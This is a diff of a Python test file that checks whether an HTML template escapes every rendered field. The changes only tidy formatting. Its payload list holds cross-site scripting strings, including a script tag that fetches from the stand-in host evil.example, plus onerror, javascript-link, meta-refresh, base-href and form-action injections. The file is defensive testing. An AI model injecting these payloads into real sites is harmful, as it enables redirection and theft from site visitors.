@@ -16,7 +16,7 @@ SCRIPTS = ["<script>fetch('http://evil.example/')</script>", "<img src=x onerror
            "a|b | <script>hit()</script>",
            "<iframe src='data:text/html,<script>hit()</script>'></iframe>", "<a href='javascript:hit()' id=link>x</a>",
            "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "</code></table><script>hit()</script>",
-           "<base href='http://evil.example/'>", 
+           "<base href='http://evil.example/'>",
            "<form action='http://evil.example/'><input autofocus onfocus=hit()></form>",
            "<style>body{display:none}</style>", "]]><script>hit()</script>", "\x1b[31m<script>hit()</script>"]
 
@@ -117,7 +117,8 @@ def test_the_tower_escapes_every_field(browser, tmp_path):
     part = nothing(evil, evil, evil, evil, evil, evil, [], [signal], [job], evil)
     text = render_template(
         "page.html.jinja", style="", model=evil, written=evil, sentence=evil, look=evil, parts={evil: evil},
-        policy=evil, set_aside=evil, tiles=[make_dataclass("Tile", ["name", "value", "note", "look"])(evil, evil, evil, evil)],
+        policy=evil, set_aside=evil,
+        tiles=[make_dataclass("Tile", ["name", "value", "note", "look"])(evil, evil, evil, evil)],
         performance=part, traffic=[make_dataclass("T", ["name", "chart", "mirrored"])(evil, evil, 5)], drift=part,
         events=[event], releases=[release], runs=part)
     assert "<script" not in text and "<img" not in text and "Content-Security-Policy" in text
